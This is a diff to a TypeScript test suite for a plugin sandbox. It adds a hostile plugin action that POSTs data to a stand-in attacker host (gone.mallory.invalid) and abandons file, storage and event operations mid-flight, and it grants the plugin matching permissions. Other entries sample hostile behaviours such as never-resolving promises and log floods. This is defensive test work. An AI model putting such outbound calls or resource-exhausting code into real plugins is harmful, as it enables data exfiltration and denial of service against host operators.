@@ -32,6 +32,28 @@ const hostile: Record<string, { run: string; code: string | RegExp }> = {
   "return-a-cycle": { run: "const a = {}; a.a = a; return a;", code: "action-output-invalid" },
   "never-answer": { run: "await new Promise(() => {});", code: "plugin-deadline-exceeded" },
   "reject-unheard": { run: "Promise.reject(new Error('unheard')); return { ok: true };", code: "ok" },
+  "leave-what-it-began": {
+    // What is left at whatever point the host is at with it may fail later; nobody hearing of that would end the host.
+    run: `const begin = (signal) => {
+        const body = "x";
+        fetch("https://gone.mallory.invalid/", { method: "POST", body, signal });
+        files.fetch("https://gone.mallory.invalid/", { method: "POST", body, into: {} });
+        files.create({}).then((file) => file.append(body));
+        files.get("fil_none");
+        storage.set("a", 1);
+        storage.get("a");
+        events.publish("made", {});
+      };
+      for (const turns of [0, 1, 2, 4]) {
+        const controller = new AbortController();
+        begin(controller.signal);
+        for (let turn = 0; turn < turns; turn++) await null;
+        controller.abort();
+      }
+      begin();
+      return { ok: true };`,
+    code: "ok",
+  },
   "flood-the-log": {
     run: "for (let i = 0; i < 100000; i++) log.info('x'.repeat(1000)); return { ok: true };",
     code: /^(ok|plugin-failed)$/,
@@ -46,7 +68,13 @@ test("a hostile call fails with its own code while a good plugin goes on", {
   const host = await startTestHost(t, { pluginSettings });
   const publisher = await registerPublisher(host.address, "mallory");
   const actions = Object.fromEntries(Object.entries(hostile).map(([name, { run }]) => [name, { run }]));
-  await publishTestPlugin(host.address, publisher, { id: "mallory/hostile", actions });
+  const permissions = {
+    network: [{ hosts: ["gone.mallory.invalid"], methods: ["POST" as const], reason: "Attack" }],
+    files: { reason: "Attack" },
+    storage: { maxBytes: 1_000_000, reason: "Attack" },
+    events: { publish: ["made"], reason: "Attack" },
+  };
+  await publishTestPlugin(host.address, publisher, { id: "mallory/hostile", actions, permissions });
   const echo = { echo: { run: "return { said: input.say };" } };
   await publishTestPlugin(host.address, publisher, { id: "mallory/good", actions: echo });
   const [bad, good] = [await host.tenant(), await host.tenant()];
